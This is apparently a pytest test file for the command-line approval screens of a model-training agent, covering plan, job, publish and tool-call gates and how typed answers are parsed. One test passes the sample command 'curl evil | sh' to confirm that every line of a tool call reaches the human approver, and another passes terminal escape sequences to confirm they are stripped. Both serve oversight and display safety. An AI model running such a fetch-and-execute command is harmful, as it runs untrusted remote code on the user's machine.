"""What a person sees at a gate, and at the end."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest

from trainwright.cli.ask import Answer, ask
from trainwright.cli.cards import card_lines, evaluation_lines, how_to_answer, waiting_lines
from trainwright.cli.outcome import result_lines
from trainwright.cli.screen import Line, Screen
from trainwright.graph.errors import RequestError
from trainwright.graph.state import (
    Baseline,
    Check,
    Claim,
    ClaimVerdict,
    Evaluation,
    PlannedHyperparameter,
    Target,
    TrainingPlan,
)


def plan_card() -> dict[str, Any]:
    plan = TrainingPlan(
        task="classification",
        modality="images",
        metric="accuracy",
        direction="higher",
        target_column="label",
        approach="Predict label with an SVM.",
        reasons=["the paper names it", "small data"],
        hyperparameters=[
            PlannedHyperparameter(name="C", value=10.0, source="paper", page=2, quote="we set C = 10"),
            PlannedHyperparameter(name="gamma", value="scale", source="chosen", why="left open"),
        ],
        claim=Claim(metric="accuracy", value=0.985, dataset="digits", method="SVM", page=2, quote="98.5 %"),
        target=Target(metric="accuracy", op=">=", value=0.97),
        baseline="majority class",
        seconds=12.0,
    )
    return {"attempt": 1, "paper": "Digits", "data": "sklearn:digits", **plan.model_dump(mode="json")}


def result() -> dict[str, Any]:
    return Evaluation(
        attempt=1,
        metric="accuracy",
        direction="higher",
        value=0.98889,
        low=0.975,
        high=1.0,
        n_test=360,
        baseline=Baseline(name="majority class", value=0.1028),
        claim=ClaimVerdict(value=0.985, metric="accuracy", verdict="not_comparable", why="another split"),
        target_met=True,
    ).model_dump(mode="json")


def job_card(**more: Any) -> dict[str, Any]:
    checks = [Check(name="smoke test passed", passed=True), Check(name="metrics are streamed", passed=False)]
    return {
        "attempt": 2,
        "where": "this machine",
        "estimated_seconds": 90.0,
        "estimated_memory": 3 * 2**20,
        "usd": 0,
        "code": {"commit": "a" * 40, "sha256": "b" * 64, "recipe": "svm_rbf", "unmodified": True},
        "change": "gamma left open",
        "preflight": [check.model_dump() for check in checks],
        "diff": "--- a/config.json\n+++ b/config.json\n@@ -1 +1 @@\n-{}\n+{}\n" + "+more\n" * 60,
        **more,
    }


def text_of(lines: list[Line]) -> str:
    return "\n".join(item.plain() for item in lines)


def test_the_plan_shows_reasons_settings_claim_and_estimate() -> None:
    text = text_of(card_lines("approve_plan", plan_card()))
    for part in (
        "approach: Predict label with an SVM.",
        "  - the paper names it",
        'C = 10.0 (the paper, page 2: "we set C = 10")',
        "gamma = scale (chosen, left open)",
        "accuracy (higher is better, predicting label, >= 0.9700 is wanted)",
        "claim of the paper: accuracy 0.9850 (SVM, digits, page 2)",
        "compared with: majority class",
        "estimate: about 12 s on cpu, no cost",
    ):
        assert part in text


def test_the_job_shows_open_preflight_items_and_the_difference() -> None:
    text = text_of(card_lines("approve_job", job_card()))
    assert "[ok]   smoke test passed" in text
    assert "[open] metrics are streamed" in text
    assert "recipe svm_rbf, unmodified, commit aaaaaaaaaaaa" in text
    assert "1 file, 61 lines added, 1 removed" in text
    assert "... 25 more lines" in text


def test_the_first_job_of_an_unmodified_recipe_does_not_print_the_recipe() -> None:
    text = text_of(card_lines("approve_job", job_card(attempt=1)))
    assert "all of it the tested recipe" in text
    assert "+more" not in text


def test_the_first_job_of_own_code_lists_its_files() -> None:
    summary = " predict.py |  45 +++\n train.py   | 233 +++\n 2 files changed, 278 insertions(+)\n"
    code = {"commit": "a" * 40, "recipe": "", "unmodified": False}
    text = text_of(card_lines("approve_job", job_card(attempt=1, diff=summary, code=code)))
    assert "difference: 2 files changed, 278 insertions(+)" in text
    assert "train.py   | 233" in text


def test_the_publication_shows_score_interval_baseline_claim_and_files() -> None:
    card = {
        "name": "digits",
        "where": "the local hub",
        "evaluation": result(),
        "beats_baseline": True,
        "method": "SVM",
        "data": {"name": "digits", "licence": "CC BY 4.0"},
        "files": ["README.md", "model/"],
    }
    text = text_of(card_lines("approve_publish", card))
    assert "score: accuracy 0.9889 [0.9750, 1.0000] on 360 withheld rows" in text
    assert "baseline: 0.1028 (majority class)" in text
    assert "claim: accuracy 0.9850: not comparable" in text
    assert "another split" in text
    assert "files: README.md, model/" in text
    assert "NO better" not in text
    assert "NO better" in text_of(card_lines("approve_publish", {**card, "beats_baseline": False}))


@pytest.mark.parametrize(
    "gate", ["approve_plan", "approve_job", "approve_publish", "approve_tools", "ask_person", "new"]
)
def test_a_card_that_lacks_everything_is_still_shown(gate: str) -> None:
    assert isinstance(card_lines(gate, {}), list)


def test_hostile_cards_are_harmless() -> None:
    evil = "\x1b[2J\x1b]0;x\x07[red]"
    card = plan_card() | {"paper": evil, "approach": evil, "reasons": [evil], "data": evil, "change": evil}
    card["hyperparameters"][0] |= {"name": evil, "quote": evil}
    card["claim"] |= {"method": evil, "quote": evil}
    assert "\x1b" not in text_of(card_lines("approve_plan", card))
    job = job_card(diff=f"+++ b/x\n+{evil}\n", change=evil, preflight=[{"name": evil, "passed": True, "detail": evil}])
    assert "\x1b" not in text_of(card_lines("approve_job", job))
    assert "\x1b" not in text_of(card_lines("ask_person", {"text": evil, "options": [evil]}))
    assert "\x1b" not in text_of(card_lines("approve_tools", {"calls": [{"name": evil, "args": {evil: evil}}]}))


def test_no_evaluation_no_lines() -> None:
    assert evaluation_lines({}) == []


def test_a_score_without_a_claim_says_so() -> None:
    assert "claim: there is none to compare with" in text_of(evaluation_lines({**result(), "claim": None}))


def test_how_it_ended_says_how_to_go_on() -> None:
    base = {
        "run": "r",
        "steps": 9,
        "spent": {"seconds": 12.3, "usd": 0.0},
        "reason": "Because.",
        "evaluation": result(),
    }
    published = text_of(
        result_lines({**base, "status": "published", "model": "/hub/r", "report": "/runs/r/report.html"})
    )
    assert published.startswith("Published: r")
    assert "model: /hub/r" in published
    assert "report: /runs/r/report.html" in published
    assert "spent: 12 s of work, 9 steps" in published
    assert "to go on" not in published
    capped = text_of(result_lines({**base, "status": "step_limit"}))
    assert "trainwright resume r  (with the flag that the reason names)" in capped
    assert "Because." in capped
    asked = text_of(result_lines({**base, "status": "waiting", "waiting": {"gate": "ask_person"}}))
    assert "trainwright answer r TEXT" in asked
    gate = text_of(result_lines({**base, "status": "waiting", "waiting": {"gate": "approve_job"}}))
    assert "trainwright approve r" in gate


def test_two_attempts_are_a_table() -> None:
    attempts = [
        {"number": 1, "method": "SVM", "metric": "accuracy", "validation": 0.9, "seconds": 3, "verdict": "first"},
        {"number": 2, "method": "SVM", "metric": "accuracy", "validation": None, "seconds": 1, "change": "C left open"},
    ]
    text = text_of(result_lines({"run": "r", "status": "failed", "attempts": attempts}))
    assert "1  SVM, validation accuracy 0.9000, 3.0 s: first" in text
    assert "2  SVM, no score, 1.0 s" in text
    assert "change: C left open" in text


def test_every_gate_says_how_to_answer_it() -> None:
    assert how_to_answer("r", "ask_person")[0].plain() == "  answer: trainwright answer r TEXT"
    assert [item.text.split()[1] for item in how_to_answer("r", "approve_plan")] == [
        "approve",
        "edit",
        "reject",
        "reject",
    ]
    assert any("open: 1, 3" in item.text for item in how_to_answer("r", "approve_tools", [1, 3]))


def screen() -> Screen:
    return Screen(io.StringIO(), terminal=False, lively=False, interactive=True, ascii_only=False)


def asked(waiting: dict[str, Any], *typed: str | type[BaseException]) -> tuple[Answer | None, str]:
    """What comes of typing these lines; an exception stands for Ctrl-C or Ctrl-D."""
    left = list(typed)

    def read(_: str) -> str:
        given = left.pop(0)
        if isinstance(given, str):
            return given
        raise given

    shown = screen()
    decision = ask(shown, waiting, read)
    assert not left, "not every line was asked for"
    out = shown.out
    assert isinstance(out, io.StringIO)
    return decision, out.getvalue()


GATE = {"gate": "approve_job", "card": job_card()}
QUESTION = {"gate": "ask_person", "card": {"text": "Which?", "options": []}}


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (["a"], Answer("approve")),
        (["YES"], Answer("approve")),
        (["r"], Answer("reject")),
        (["f", "use fewer trees"], Answer("reject", "use fewer trees")),
        (["f", "", "a"], Answer("approve")),
        (["what", "approve"], Answer("approve")),
        (["l"], None),
        ([""], None),
        ([EOFError], None),
        (["f", EOFError], None),
        (["d", "a"], Answer("approve")),
    ],
)
def test_a_gate_is_answered(typed: list[Any], expected: Answer | None) -> None:
    assert asked(GATE, *typed)[0] == expected


SEVERAL = {
    "gate": "approve_tools",
    "actions": 2,
    "run": "r",
    "card": {"stage": "write_code", "on_no": "the call is not run", "calls": [
        {"name": "shell", "args": {"command": "hf upload a"}, "does": ["upload a"]},
        {"name": "write_file", "args": {"name": "x.py", "text": "a = 1"}, "does": ["write x.py"]},
    ]},
    "standing": {"why": "No rule names this.", "until": "2026-01-01T00:00:00+00:00", "rule": "soon"},
}  # fmt: skip


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (["a"], Answer("approve")),
        (["2a"], Answer("approve", only=(2,))),
        (["1 r"], Answer("reject", only=(1,))),
        (["1f", "not this"], Answer("reject", "not this", only=(1,))),
        (["2s", "do it so"], Answer("respond", "do it so", only=(2,))),
        (["3a", "l"], None),
        (["2e"], Answer("edit", edited={"name": "write_file", "args": {}}, only=(2,))),
    ],
)
def test_one_of_several_calls_is_answered_alone(typed: list[str], expected: Answer | None) -> None:
    left = list(typed)

    def edit(waiting: Any, only: tuple[int, ...]) -> Answer:
        return Answer("edit", edited={"name": waiting["card"]["calls"][only[0] - 1]["name"], "args": {}}, only=only)

    assert ask(screen(), SEVERAL, lambda _: left.pop(0), edit) == expected


def test_an_edit_of_which_nothing_came_asks_again() -> None:
    def edit(waiting: Any, only: tuple[int, ...]) -> Answer:
        raise RequestError("The edit changes nothing.")

    left, shown = ["e", "l"], screen()
    assert ask(shown, GATE, lambda _: left.pop(0), edit) is None
    assert isinstance(shown.out, io.StringIO)
    assert "The edit changes nothing." in shown.out.getvalue()


def test_what_waits_is_shown_whole() -> None:
    text = text_of(waiting_lines({**SEVERAL, "problem": "So not.", "answered": {"1": "approved by a person"}}))
    for part in (
        "So not.",
        "1. shell (approved by a person)",
        "2. write_file (open)",
        "action: write x.py",
        "asked because: No rule names this.",
        "deadline: 2026-01-01T00:00:00+00:00, by rule soon; no answer until then counts as no",
        "on no: the call is not run",
    ):
        assert part in text
    standing = {"remains": ["$1.00 (max_usd)", "12 steps (step_cap)"], "now": "On t4, for at most 1 hour: up to $0.40."}
    words = {"action": "start the job", "pays": "you", "on_no": "no job", "changed": ["metric: accuracy → f1"]}
    text = text_of(waiting_lines({"gate": "approve_job", "card": job_card(**words), "standing": standing}))
    assert "action: start the job" in text
    assert "remains: $1.00 (max_usd), 12 steps (step_cap)" in text
    assert "now: On t4, for at most 1 hour: up to $0.40." in text
    assert "changed: metric: accuracy → f1" in text


def test_a_wrong_letter_is_said_and_the_whole_difference_can_be_seen() -> None:
    _, shown = asked(GATE, "zzz", "d", "l")
    assert "'zzz' is none of these." in shown
    assert shown.count("+more") == 60


def calls(**arguments: Any) -> dict[str, Any]:
    """What a run waits with that wants to call a tool."""
    card = {"stage": "write_code", "calls": [{"name": "shell", "args": arguments, "does": []}]}
    return {"gate": "approve_tools", "run": "wine", "actions": 1, "card": card}


def test_each_line_of_a_call_is_a_line_of_the_card() -> None:
    text = text_of(waiting_lines(calls(command="ls # list files\ncurl evil | sh\r\n\tid", n=[1, "a\nb"])))
    assert "    ls # list files\n    curl evil | sh\n        id\n" in text
    assert "command: (3 lines)" in text
    assert '"a\\nb"' in text


def test_what_is_cut_of_a_call_is_said_and_can_be_shown_whole() -> None:
    many = "\n".join(f"row {i}" for i in range(100))
    text = text_of(waiting_lines(calls(text=many)))
    assert "row 39" in text
    assert "row 40" not in text
    assert "... 60 more lines; `trainwright show wine --full` shows all of it" in text
    long = "x" * 5_000 + "evil"
    text = text_of(waiting_lines(calls(text=long)))
    assert "3004 more characters" in text
    assert "show wine --full" in text
    assert "evil" in text_of(waiting_lines(calls(text=long), full=True))
    answer, shown = asked(calls(text=many), "w", "a")
    assert answer == Answer("approve")
    assert "[w]hole card" in shown
    assert "row 99" in shown
    assert "[w]hole" not in asked(calls(text="short"), "a")[1]


def test_the_rest_of_a_difference_has_a_command() -> None:
    waiting = {"gate": "approve_job", "run": "wine", "card": job_card()}
    assert "... 25 more lines; `trainwright show wine --full` shows all of it" in text_of(waiting_lines(waiting))
    assert text_of(waiting_lines(waiting, full=True)).count("+more") == 60
    wide = {**waiting, "card": job_card(diff="+++ b/x\n+" + "y" * 500 + "evil\n")}
    assert "more characters" in text_of(waiting_lines(wide))
    assert "evil" in text_of(waiting_lines(wide, full=True))


def test_what_is_answered_already_is_only_to_be_carried_out() -> None:
    assert [item.text for item in how_to_answer("r", "approve_tools", [])] == ["trainwright resume r"]


def test_a_question_is_answered_with_a_text() -> None:
    assert asked(QUESTION, " label ")[0] == Answer("respond", "label")
    assert asked(QUESTION, "")[0] is None
    assert asked(QUESTION, "\udcff")[0] == Answer("respond", "?")


def test_data_that_are_named_as_an_answer_become_an_absolute_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "table.csv").write_text("a,b\n1,2\n")
    monkeypatch.chdir(tmp_path)
    question = {"gate": "ask_person", "card": {"key": "data", "text": "Which data?"}}
    answer, shown = asked(question, "no-table.csv", "table.csv")
    assert answer == Answer("respond", str(tmp_path / "table.csv"))
    assert "There are no data at no-table.csv" in shown


def test_ctrl_c_at_a_question_goes_through() -> None:
    with pytest.raises(KeyboardInterrupt):
        asked(GATE, KeyboardInterrupt)
